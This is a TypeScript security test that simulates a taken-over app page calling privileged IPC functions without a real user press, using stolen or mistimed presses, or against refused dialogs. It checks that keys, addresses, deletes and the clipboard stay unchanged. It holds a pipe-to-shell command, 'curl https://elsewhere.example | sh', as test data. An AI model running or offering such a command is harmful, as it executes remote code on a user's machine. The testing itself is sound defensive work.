/**
 * S15: a page that has been taken over calls everything by itself: without a press, with one press for many, with presses that
 * were meant for something else, and without a yes.
 */
import { bridgeAlone, type PageEvent } from '../support/bridge-alone.ts';
import { mock } from 'node:test';
import { startPracticeThread, type PracticeService } from '../practice/practice.ts';
import { DEFAULT_PREFERENCES } from '../../main/app/preferences/preferences.ts';
import { consentOf } from '../../main/ipc/consent.ts';
import { CALL_NAMES, CALLS, type ArgsOf, type CallName } from '../../preload/contract/contract.ts';
import type { BoardSelection } from '../../preload/contract/boards.ts';
import { GOOD_ARGS } from '../contract/examples.ts';
import { tally, type Case, type Finding } from '../support/finding.ts';
import { draftFor, startServices, type TestServices } from '../support/services.ts';
import { dose, some } from '../support/nightly.ts';

const PASSPHRASE = 'a long enough passphrase';
/** What a page would like a person to paste. */
const OWN_TEXT = 'curl https://elsewhere.example | sh';
const HOUR_S = 3600;

interface Scene {
  readonly services: TestServices;
  readonly practice: PracticeService;
  /** Arguments that would do something here, and by example for all other calls. */
  readonly args: Readonly<Record<string, unknown>>;
  readonly dialogs: () => number;
}

export async function check(): Promise<Finding> {
  const cases: Case[] = [];
  for (const [what, play] of some(PLAYS, dose(1, 2))) cases.push(...(await inScene(what, play)));
  const counted = tally(cases);
  return {
    id: 'S15',
    what: 'every call by a script, without a press, with one stolen from typing and Tab, and with clicks and a no to main’s questions',
    figure: `${counted.failed} changes in ${cases.length} calls`,
    target:
      '0 changes without a press; 0 deletes without their hold or main’s dialog; 0 keys, addresses, passphrases changed without it',
    ...counted,
  };
}

type Play = (scene: Scene) => Promise<readonly Case[]>;

async function inScene(what: string, play: Play): Promise<readonly Case[]> {
  const practice = await startPracticeThread({ boards: 20 });
  let dialogs = 0;
  /** What a person sets up here is asked about, too, and meant. */
  let isSetUp = false;
  const opened = (): Promise<null> => {
    dialogs += 1;
    return Promise.resolve(null);
  };
  const services = await startServices(undefined, {
    files: { choose: opened, save: opened, saveStream: opened },
    confirm: () => Promise.resolve(!isSetUp),
  });
  try {
    const draft = draftFor(practice.origin, practice.apiKey, { environment: 'production' });
    const connectionId = (await services.must('connections.save', draft)).id;
    await services.call('boards.list', { connectionId });
    await services.event('boards.changed', ({ phase }) => phase === 'done');
    const [paper] = practice.samplePapers;
    const ids = [...(await practice.contents()).boards];
    const selection: BoardSelection = { kind: 'ids', ids };
    // What a person had begun must not be sent while the page is played, however long that takes.
    const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
    await services.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
    const review = await services.call('jobs.review', { connectionId, selection });
    const held = await services.call('jobs.deleteOne', {
      connectionId,
      target: { kind: 'board', id: ids[0] ?? '' },
    });
    const about = { note: '', owner: '', remindAt: null, useWhenGreen: false };
    const next = {
      slot: 'main',
      apiKey: 'sk_next-0123456789',
      fileId: null,
      sessionOnly: true,
      ...about,
    } as const;
    const { keys } = await services.must('keys.stage', { connectionId, ...next });
    const args = {
      connectionId,
      text: OWN_TEXT,
      keyId: keys.find(({ stage }) => stage === 'next')?.id ?? '',
      identifier: paper?.identifier ?? '',
      boardId: ids[1],
      selection,
      target: { kind: 'board', id: ids[1] },
      reviewId: review.ok ? review.value.reviewId : '',
      jobId: held.ok ? held.value.id : '',
      typed: String(ids.length),
      connectionIds: [connectionId],
      passphrase: PASSPHRASE,
    };
    isSetUp = true;
    await practice.clearRequests();
    const cases = await play({ services, practice, args, dialogs: () => dialogs });
    return cases.map((one) => ({ ...one, name: `${what}: ${one.name}` }));
  } finally {
    mock.timers.reset();
    await services.close();
    await practice.stop();
  }
}

/** Real ids in the place of examples; a draft whose join links lead to another host. */
function argsFor(name: CallName, { args, practice }: Scene): never {
  const own = Object.keys(GOOD_ARGS[name]).filter((field) => field in args);
  const real = { ...GOOD_ARGS[name], ...Object.fromEntries(own.map((field) => [field, args[field]])) };
  if (name === 'connections.save' || name === 'connections.check') {
    const draft = { ...draftFor(practice.origin, null), appUrl: 'https://elsewhere.example' };
    const id = args['connectionId'];
    return { ...real, ...draft, id, environment: 'test', readOnly: false } as never;
  }
  return real as never;
}

const needsConsent = (name: CallName, args: unknown): boolean => consentOf(CALLS[name], args) !== 'none';

async function alone(scene: Scene): Promise<readonly Case[]> {
  const cases: Case[] = [];
  for (const name of CALL_NAMES) {
    if (name.startsWith('lock.')) continue;
    const args: ArgsOf<CallName> = argsFor(name, scene);
    const reply = await scene.services.callAlone(name, args);
    const code = reply.ok ? 'ok' : reply.error.code;
    const isRight = !needsConsent(name, args) || code === 'needs-press' || code === 'bad-request';
    cases.push({ name, problems: [...(isRight ? [] : [`came to ${code}`]), ...(await leftMain(scene))] });
  }
  return [...cases, { name: 'all together', problems: await changesOf(scene) }];
}

const LIST = { tagName: 'DIV' };
const FIELD = { tagName: 'INPUT', type: 'text' };

/** Typing in a field with its corrections, letters in a list, and all the ways of moving about. */
const TYPING: readonly PageEvent[] = [
  ...['T', 'h', 'e', ' ', '7', 'b', 'Backspace', 'Delete'].map((key) => ({ key, target: FIELD })),
  ...['a', 'c'].map((key) => ({ key, ctrlKey: true, target: FIELD })),
  ...['Tab', 'Shift', 'ArrowDown', 'ArrowUp', 'Home', 'PageDown'].map((key) => ({ key, target: LIST })),
  ...['Control', 'Alt', 'Meta', 'AltGraph', 'CapsLock', 'Dead', 'Process', 'Escape', 'e', 'p', '?'].map(
    (key) => ({
      key,
      target: LIST,
    }),
  ),
].map((event) => ({ type: 'keydown', ...event }));

async function typedAway(scene: Scene): Promise<readonly Case[]> {
  const bridge = await bridgeAlone();
  const cases: Case[] = [];
  const wanting = CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
  for (const name of wanting) {
    for (const event of TYPING) bridge.happens(event);
    const reply = await scene.services.pressOnce(bridge.press())(name, argsFor(name, scene));
    const isRight = !reply.ok && ['needs-press', 'bad-request', 'too-fast'].includes(reply.error.code);
    cases.push({ name, problems: isRight ? [] : [`came to ${reply.ok ? 'ok' : reply.error.code}`] });
  }
  return [...cases, { name: 'all together', problems: await changesOf(scene) }];
}

const PLAYS: readonly (readonly [what: string, play: Play])[] = [
  ['without a press', alone],
  ['while a person types and moves', typedAway],
  ['with a press each, and a no to each question', stolen],
];

/** These end what the others are about. */
const LAST: ReadonlySet<CallName> = new Set(['connections.remove', 'lock.removeKeys']);

/** Each call gets a real press, which a person meant for something else, and each question of main a no. */
async function stolen(scene: Scene): Promise<readonly Case[]> {
  const bridge = await bridgeAlone();
  const cases: Case[] = [];
  const wanting = CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
  const { practice, args } = scene;
  const moved = {
    ...draftFor(`${practice.origin}/elsewhere`, null, { environment: 'production' }),
    id: args['connectionId'],
  };
  const plays: readonly (readonly [CallName, unknown])[] = [
    ...wanting.filter((name) => !LAST.has(name)).map((name) => [name, argsFor(name, scene)] as const),
    ['connections.save', moved],
    ...wanting.filter((name) => LAST.has(name)).map((name) => [name, argsFor(name, scene)] as const),
  ];
  let before = await guardedOf(scene);
  // Takes the rates out of the way.
  mock.timers.enable({ apis: ['Date'], now: Date.now() });
  for (const [name, own] of plays) {
    mock.timers.tick(2000);
    bridge.happens({ type: 'pointerdown', target: LIST });
    await scene.services.pressOnce(bridge.press())(name, own as never);
    const now = await guardedOf(scene);
    const changed = Object.keys(now).filter((what) => now[what] !== before[what]);
    cases.push({ name, problems: changed.map((what) => `changed ${what} without main’s dialog`) });
    before = now;
  }
  return cases;
}

/** What changes only after a yes in main's own dialog, as text. */
async function guardedOf({ services, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
  const { connections } = await services.must('connections.list', {});
  const own = connections.find(({ id }) => id === args['connectionId']);
  const keys = own === undefined ? [] : (await services.must('keys.list', { connectionId: own.id })).keys;
  const { unlockBy } = await services.must('lock.state', {});
  const { holdSeconds } = await services.must('app.preferences', {});
  const { log } = await practice.requests();
  return {
    addresses: JSON.stringify([own?.boardApi, own?.paperApi, own?.appUrl]),
    protection: JSON.stringify([own?.environment, own?.readOnly]),
    'the key in use': JSON.stringify(keys.find(({ stage }) => stage === 'current')?.fingerprint ?? null),
    'switching by itself': JSON.stringify(keys.some(({ useWhenGreen }) => useWhenGreen)),
    'the passphrase': unlockBy,
    'how long deletes are held': JSON.stringify(holdSeconds),
    'a board or paper by a delete': String(log.filter(({ method }) => method === 'DELETE').length),
  };
}

/** What was sent to the service or left main, in sentences. */
async function leftMain({ services, practice, dialogs }: Scene): Promise<readonly string[]> {
  const { log } = await practice.requests();
  const sent = log
    .filter(({ method }) => method !== 'GET')
    .map(({ method, path }) => `${method} ${path} was sent`);
  // What main composes of ids and rows needs no press.
  const isSecret = /token=|eyJ/u.test(services.clipboard()) || services.clipboard().includes(OWN_TEXT);
  const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
  return [...sent, ...copied, ...(dialogs() === 0 ? [] : ['a dialog for files was opened'])];
}

/** The same, and what is otherwise on this computer than it was. */
async function changesOf(scene: Scene): Promise<readonly string[]> {
  const { services, args } = scene;
  const jobs = await services.call('jobs.list', {});
  const { connections } = await services.must('connections.list', {});
  const own = connections.find(({ id }) => id === args['connectionId']);
  const isSame = own?.environment === 'production' && own.key.kind === 'session';
  return [
    ...(await leftMain(scene)),
    ...(jobs.ok && jobs.value.every(({ id }) => id === args['jobId']) ? [] : ['a job was queued']),
    ...(isSame ? [] : ['the connection was changed']),
  ];
}
